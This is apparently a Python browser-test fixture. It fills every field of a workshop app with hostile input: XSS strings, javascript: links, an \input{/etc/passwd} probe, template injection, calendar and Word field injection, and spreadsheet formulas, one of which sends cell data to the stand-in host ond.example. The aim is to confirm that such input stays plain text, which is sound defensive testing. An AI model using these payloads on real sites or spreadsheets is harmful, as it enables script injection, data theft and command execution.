"""What a person may write to make a page, a document or a calendar do something. It must stay text."""

from __future__ import annotations

import uuid
from typing import Any

SCRIPTS = (
    "<script>window.pwned(1)</script>",
    "</script><script>window.pwned(2)</script>",
    "<img src=x onerror=window.pwned(3)>",
    "<svg/onload=window.pwned(4)>",
    "<svg><animate onbegin=window.pwned(5) attributeName=x dur=1s>",
    '"><b onmouseover=window.pwned(6)>her</b>',
    "' autofocus onfocus=window.pwned(7) x='",
    "<iframe srcdoc='<script>parent.pwned(8)</script>'></iframe>",
    "<a href=javascript:window.pwned(9)>lenke</a>",
    "<math><mtext></table><mglyph><style><img src=x onerror=window.pwned(10)>",
    "&lt;script&gt;window.pwned(11)&lt;/script&gt;",
    "<!--<img src=x --><base href=//ond.example/>",
    "<details open ontoggle=window.pwned(12)>x</details>",
)
MARKUP = (
    "[lenke](javascript:window.pwned(13)) ![bilde](http://ond.example/x.png) **fet**",
    r"$$\href{javascript:window.pwned(14)}{x}$$ \(\unicode{x41}\) \input{/etc/passwd}",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% include 'x' %} {constructor} %s %(x)s {0.__class__}",
    "javascript:window.pwned(15)",
    "https://ond.example/ og ond.example",
)
FORMULAS = (
    '=HYPERLINK("http://ond.example/?"&A1,"Klikk")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '=WEBSERVICE("http://ond.example/")',
    "{=1+1}",
)
LINES = (
    "Første linje\nBEGIN:VEVENT\nSUMMARY:Innbrudd\nEND:VEVENT",
    "a,b;c\\n:d\\\\e ATTACH:http://ond.example/",
    "MERGEFIELD x \\* MERGEFORMAT { PAGE } INCLUDETEXT c:/x",
)
STRANGE = (
    "Langt" + "ordutenmellomrom" * 16,
    "עברית שלום وعربي مرحبا",
    "nul\u200bl\u200dbredde\u2060 og \ufeff",
    "tall ١٢٣ 𝟙𝟚𝟛 og emoji 👩‍👩‍👧 \ufffd",
)
CLEANED = {
    "snudd \u202egpj.exe\u202c tekst": "snudd gpj.exe tekst",
    "kontroll\x00\x07\x1b[31mtegn\x7f": "kontroll[31mtegn",
}
"""What is taken away on the way in: characters that are not text, or make a text read as another."""

STAY = (*SCRIPTS, *MARKUP, *FORMULAS, *LINES, *STRANGE)
EVERY = (*STAY, *CLEANED)


def expected() -> tuple[str, ...]:
    """How each of `EVERY` is to be seen."""
    return (*STAY, *CLEANED.values())


def new_id() -> str:
    """An id as a browser makes it."""
    return str(uuid.uuid4())


class HostileDay:
    """A session in which every field is filled with hostile texts, step by step.

    `leader` and `people` send commands: `Leader` and `Colleague` of `tests.browser.people`. There must
    be at least two people, in different groups.
    """

    def __init__(self, leader: Any, people: list[Any]) -> None:
        self.leader, self.people = leader, people
        self.heading = SCRIPTS[2]  # what the two merged points become

    def think(self) -> None:
        """Notes, a draft, and each note shared with the group."""
        self.leader.go("reflect-1", "alone")
        for number, text in enumerate(EVERY):
            writer, note = self.people[number % len(self.people)], new_id()
            writer.send("note.add", note=note, step="reflect-1", text=text)
            writer.send("note.share", note=note, shared=True)
        self.people[0].send("draft.save", step="reflect-1", text="\n".join(SCRIPTS))
        self.leader.go("reflect-1", "group")

    def agree(self) -> None:
        """Points, which the facilitator lets through, and two of them merged under a hostile heading."""
        points = []
        for number, text in enumerate(EVERY):
            points.append(new_id())
            self.people[number % len(self.people)].send(
                "point.add", point=points[-1], step="reflect-1", text=text, notes=[]
            )
        self.queued = points

    def show(self) -> None:
        """Plenary."""
        for point in self.queued:
            self.leader.send("moderate", point=point, show=True)
        shown = self.leader.snapshot()["activities"]["reflect-1"]["points"]
        two = [point["id"] for point in shown[:2]]
        self.leader.send("merge", points=two, text=self.heading)
        self.leader.go("reflect-1", "plenary")

    def choose(self) -> None:
        """Everybody votes, and the result is shown."""
        self.leader.go("prioritise-1", "alone")
        options = self.people[0].snapshot()["activities"]["prioritise-1"]["options"]
        for person in self.people:
            votes = {option["id"]: 1 for option in options[:3]}
            person.send("vote.cast", step="prioritise-1", round=1, votes=votes)
        self.leader.go("prioritise-1", "plenary")
        self.leader.send("reveal", step="prioritise-1")

    def plan(self) -> None:
        """Goals, actions and what the plan needs, each field with texts of its own kind."""
        self.leader.go("actions-1", "group")
        fields = ("text", "who", "when", "success_sign")
        texts = iter(PLANNED)
        for _ in range(3):
            goal = new_id()
            about = {name: next(texts) for name in ("text", "finding", "target")}
            self.people[0].send("goal.save", goal=goal, step="actions-1", **about)
            for _ in range(2):
                action = {name: next(texts) for name in fields}
                self.people[0].send("action.save", action=new_id(), goal=goal, **action)
        needs = ("participation", "support_leader", "support_owner", "support_ppt")
        self.leader.send("plan.save", **{name: next(texts) for name in needs}, evaluate_on="2027-09-16")
        self.leader.go("actions-1", "plenary")

    def report(self) -> None:
        """The last step."""
        self.leader.go("report-1", "plenary")


PLANNED = (*EVERY, "31.12.2027 <b onclick=window.pwned(16)>", *FORMULAS[:5])
"""37 texts for 3 goals of 3 fields, 6 actions of 4 and the 4 fields of the plan; longest 500."""
